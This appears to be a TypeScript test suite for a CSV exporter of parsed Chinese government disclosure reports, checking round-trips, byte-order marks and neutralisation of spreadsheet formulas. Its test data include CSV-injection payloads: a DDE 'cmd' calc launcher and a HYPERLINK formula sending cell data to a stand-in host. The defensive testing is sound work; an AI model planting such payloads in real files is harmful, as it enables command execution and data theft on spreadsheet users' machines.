/**
 * The CSV export (parser/export/csv.ts) read back by a real CSV reader (papaparse): every form
 * (long, wide, checks) returns the values it was given, Chinese intact, with a byte-order mark,
 * and no text field reaches a spreadsheet as a formula, while numbers (negative ones too) stay
 * numbers.
 */
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { seedSampleText } from '../../sites/samples.js';
import { BOM, CHECKS_HEADER, LONG_HEADER, checkRow, csvField, longRows, toChecksCsv, toLongCsv, toWideCsv, wideColumns, parseReport, reportId, isSoftCheck, STATUS_SUFFIX, WIDE_LEAD, type Cell, type ReportRecord } from '../../parser/index.js';
import { renderPage, type GenValues } from '../../sites/gen.js';

const FORMULA_START = /^[=+\-@\t\r]/;
/** A field a spreadsheet may take as a number: that is all a formula-start character may begin. */
const PLAIN_NUMBER = /^[-+]?\d+(\.\d+)?$/;

/** What a reader of the CSV must get back for a value written (../shared/spec/record.md: formula text neutralised with a leading '). */
function expectedField(v: string | number | boolean | null | undefined): string {
  if (v === null || v === undefined) return '';
  if (typeof v === 'number') return Number.isFinite(v) ? String(v) : '';
  if (typeof v === 'boolean') return String(v);
  return FORMULA_START.test(v) && !PLAIN_NUMBER.test(v) ? `'${v}` : v;
}

function readCsv(csv: string): string[][] {
  expect(csv.startsWith(BOM), 'the file starts with a UTF-8 byte-order mark').toBe(true);
  expect(csv.indexOf(BOM, 1), 'one BOM only').toBe(-1);
  const out = Papa.parse<string[]>(csv.slice(BOM.length), { header: false, skipEmptyLines: true, dynamicTyping: false });
  expect(out.errors).toEqual([]);
  return out.data;
}

/** No field that a spreadsheet would run: every field starting with = + - @ TAB CR is a plain number. */
function expectNoFormula(rows: string[][]): void {
  for (const row of rows) for (const f of row) if (FORMULA_START.test(f)) expect(f, `field ${JSON.stringify(f)}`).toMatch(PLAIN_NUMBER);
}

const HOSTILE = [
  '=HYPERLINK("http://example.invalid/?x="&A1,"点击")',
  '@SUM(1)',
  '-1+2',
  '+cmd|\' /C calc\'!A0',
  '\tx',
  '\r=1+1',
  'a,b,"c"',
  '第一行\n第二行\r\n=第三行',
  '平潭综合实验区管委会（办公室）',
  '"quoted" 引号 “中文引号”',
  '-185',
  '',
];

const fixtureText = seedSampleText();
const fixtureRecord = () => parseReport(fixtureText, { file: 'yipinglang-2022.txt', url: 'https://www.example.gov.cn/yipinglang/2022.html' });

/** A generated 2019-format page (negative changes, 万元 amounts) parsed into a record. */
function generated2019(): ReportRecord {
  const applications: Record<string, number[]> = {};
  const v: GenValues = {
    format: '2019', year: 2020, entity: '彩云镇',
    active: {
      regulations: { new_made: 1, new_published: 2, total_published: 30 },
      normative_documents: { new_made: 0, new_published: 4, total_published: 51 },
      licensing: { prev_items: 120, change: -185, decisions: 3002 },
      other_services: { prev_items: 7, change: 2, decisions: 9 },
      penalty: { prev_items: 10, change: -3, decisions: 44 },
      enforcement: { prev_items: 2, change: 0, decisions: 5 },
      fees: { prev_items: 4, change: -1 },
      procurement: { items: 12, amount: 4166.24 },
    },
    applications, review: [1, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 2, 0, 2],
  };
  const rows = ['new_received', 'carried_over', 'granted', 'partially_granted', 'denied_state_secret', 'denied_prohibited_by_law', 'denied_security_stability', 'denied_third_party', 'denied_internal_affairs', 'denied_process_information', 'denied_enforcement_files', 'denied_administrative_query', 'unable_not_held', 'unable_needs_creation', 'unable_unclear', 'rejected_petition', 'rejected_duplicate', 'rejected_publication', 'rejected_excessive', 'rejected_confirmation', 'other', 'results_total', 'carried_forward'];
  for (const r of rows) applications[r] = [0, 0, 0, 0, 0, 0, 0];
  applications.new_received = [5, 1, 0, 0, 0, 0, 6];
  applications.granted = [4, 1, 0, 0, 0, 0, 5];
  applications.results_total = [4, 1, 0, 0, 0, 0, 5];
  applications.carried_forward = [1, 0, 0, 0, 0, 0, 1];
  const page = renderPage(v, 'table', { zero: '0', decorate: true, splitHeaders: false, fullWidth: false });
  return parseReport(page.text, { as: 'html', url: 'https://www.example.gov.cn/caiyun/2020.html' });
}

/** The record with hostile text in every text field the CSV forms carry. */
function hostile(rec: ReportRecord, s: string, i: number): ReportRecord {
  const r: ReportRecord = structuredClone(rec);
  r.entity = s;
  r.title = `${s}${i}`;
  r.publishedAt = s;
  r.source = { ...r.source, url: s === '' ? null : s, file: `f${i}.txt` };
  let k = 0;
  for (const t of ['active', 'applications', 'review_litigation'] as const) {
    for (const row of Object.values(r.tables[t] ?? {})) {
      for (const c of Object.values(row) as Cell[]) if (k++ % 3 === i % 3) c.raw = s;
    }
  }
  for (const c of r.checks) c.note = s;
  return r;
}

function expectLongRoundTrip(records: ReportRecord[]) {
  const rows = readCsv(toLongCsv(records));
  expect(rows[0]).toEqual([...LONG_HEADER]);
  const expected = records.flatMap((r) => [...longRows(r)].map((row) => row.map(expectedField)));
  expect(rows.slice(1)).toEqual(expected);
  expectNoFormula(rows.slice(1));
  return rows;
}

function expectWideRoundTrip(records: ReportRecord[]) {
  const rows = readCsv(toWideCsv(records));
  const cols = wideColumns();
  expect(rows[0].slice(0, WIDE_LEAD.length)).toEqual([...WIDE_LEAD]);
  // each cell: its value, then its status (empty for a plain number)
  expect(rows[0].slice(WIDE_LEAD.length, WIDE_LEAD.length + cols.length * 2)).toEqual(cols.flatMap((c) => [c, c + STATUS_SUFFIX]));
  expect(rows.length).toBe(records.length + 1);
  records.forEach((r, i) => {
    const row = rows[i + 1];
    const byName = Object.fromEntries(rows[0].map((h, j) => [h, row[j]]));
    expect(byName.source_url).toBe(expectedField(r.source.url ?? r.source.file));
    expect(byName.entity).toBe(expectedField(r.entity));
    expect(byName.title).toBe(expectedField(r.title));
    expect(byName.published_at).toBe(expectedField(r.publishedAt));
    expect(byName.year).toBe(expectedField(r.year));
    expect(byName.parser_version).toBe(r.parserVersion);
    expect(byName.report_id).toBe(reportId(r));
    expect(Number(byName.checks_failed)).toBe(r.checks.filter((c) => c.status === 'fail' && !isSoftCheck(c)).length);
    for (const col of cols) {
      const [t, rowId, colId] = col.split('.');
      const c = (r.tables as Record<string, Record<string, Record<string, Cell>> | undefined>)[t]?.[rowId]?.[colId];
      expect(byName[col], col).toBe(c && c.status === 'ok' ? String(c.value) : '');
      expect(byName[col + STATUS_SUFFIX], col).toBe(c && c.status !== 'ok' ? c.status : '');
    }
  });
  expectNoFormula(rows.slice(1));
  return rows;
}

function expectChecksRoundTrip(records: ReportRecord[]) {
  const rows = readCsv(toChecksCsv(records));
  expect(rows[0]).toEqual([...CHECKS_HEADER]);
  expect(rows.slice(1)).toEqual(records.flatMap((r) => r.checks.map((c) => checkRow(r, c).map(expectedField))));
  expectNoFormula(rows.slice(1));
  return rows;
}

describe('csvField neutralises formulas and keeps numbers', () => {
  it.each([
    ['=1+1', "'=1+1"], ['+1+1', "'+1+1"], ['-1+2', "'-1+2"], ['@SUM(1)', "'@SUM(1)"], ['\tx', "'\tx"],
    ['\r=1', `"'\r=1"`], ['=HYPERLINK("x")', `"'=HYPERLINK(""x"")"`],
  ])('text %j becomes %j', (input, out) => {
    expect(csvField(input)).toBe(out);
  });
  it('keeps numbers, negative and decimal ones, as numbers', () => {
    expect(csvField(-185)).toBe('-185');
    expect(csvField('-185')).toBe('-185');
    expect(csvField(4166.241619)).toBe('4166.241619');
    expect(csvField('+3')).toBe('+3');
    expect(csvField(0)).toBe('0');
    expect(csvField(Number.NaN)).toBe('');
  });
  it('quotes commas, quotes and line breaks, and leaves Chinese as it is', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('说"明"')).toBe('"说""明"""');
    expect(csvField('一\n二')).toBe('"一\n二"');
    expect(csvField('一平浪镇')).toBe('一平浪镇');
  });
});

describe('CSV round trip through papaparse', () => {
  const fixture = fixtureRecord();
  const gen = generated2019();

  it('the seed fixture, every form: values back, Chinese intact', () => {
    const long = expectLongRoundTrip([fixture]);
    expect(long.length).toBeGreaterThan(150);
    expect(long[1][1]).toBe('一平浪镇');
    expect(long.some((r) => r[10] === '由市司法局填报' && r[11] === 'note')).toBe(true);
    expectWideRoundTrip([fixture]);
    const checks = expectChecksRoundTrip([fixture]);
    expect(checks.length).toBe(fixture.checks.length + 1);
  });

  it('a 2019-format record keeps its negative changes and decimal amounts as numbers', () => {
    expect(gen.format).toBe('2019');
    const long = expectLongRoundTrip([gen]);
    const cell = (row: string, col: string) => long.find((r) => r[4] === 'active' && r[5] === row && r[7] === col);
    expect(cell('licensing', 'change')?.[9]).toBe('-185');
    expect(cell('licensing', 'change')?.[10]).toBe('-185');
    expect(cell('procurement', 'amount')?.[9]).toBe('4166.24');
    const wide = expectWideRoundTrip([gen]);
    expect(wide[1][wide[0].indexOf('active.licensing.change')]).toBe('-185');
    expectChecksRoundTrip([gen]);
  });

  it('hostile text in entity, title, url, raw and notes comes back neutralised, never as a formula', () => {
    const records = HOSTILE.flatMap((s, i) => [hostile(fixture, s, i), hostile(gen, s, i)]);
    const long = expectLongRoundTrip(records);
    expect(long.some((r) => r[1] === `'=HYPERLINK("http://example.invalid/?x="&A1,"点击")`)).toBe(true);
    expect(long.some((r) => r[1] === "'@SUM(1)")).toBe(true);
    expect(long.some((r) => r[1] === "'-1+2")).toBe(true);
    expect(long.some((r) => r[1] === "'\tx")).toBe(true);
    expect(long.some((r) => r[1] === '第一行\n第二行\r\n=第三行')).toBe(true);
    expect(long.some((r) => r[1] === 'a,b,"c"')).toBe(true);
    expect(long.some((r) => r[1] === '-185')).toBe(true);
    expectWideRoundTrip(records);
    expectChecksRoundTrip(records);
  });

  it('any text (formula starts, quotes, separators, line breaks, CJK, astral characters) round-trips', () => {
    const piece = fc.oneof(
      fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\r\n', ',', '"', "'", ' ', '；', '＝', '一平浪镇', '（', '）', '𠀋', '0', '-185', '1.5'),
      fc.string({ maxLength: 6 }),
      fc.string({ unit: 'grapheme', maxLength: 4 }),
    );
    const text = fc.array(piece, { maxLength: 8 }).map((xs) => xs.join(''));
    const runs = Number(process.env.FUZZ_RUNS ?? 100);
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (texts) => {
        const records = texts.map((s, i) => hostile(gen, s, i));
        expectLongRoundTrip(records);
        expectWideRoundTrip(records);
        expectChecksRoundTrip(records);
      }),
      { numRuns: Math.min(Number.isFinite(runs) && runs > 0 ? runs : 100, 300) },
    );
  });

  it('withBom = false leaves the mark out', () => {
    expect(toLongCsv([fixture], false).startsWith(BOM)).toBe(false);
    expect(toWideCsv([fixture], false).startsWith('report_id,')).toBe(true);
    expect(toChecksCsv([fixture], false).startsWith('source_url,')).toBe(true);
  });
});
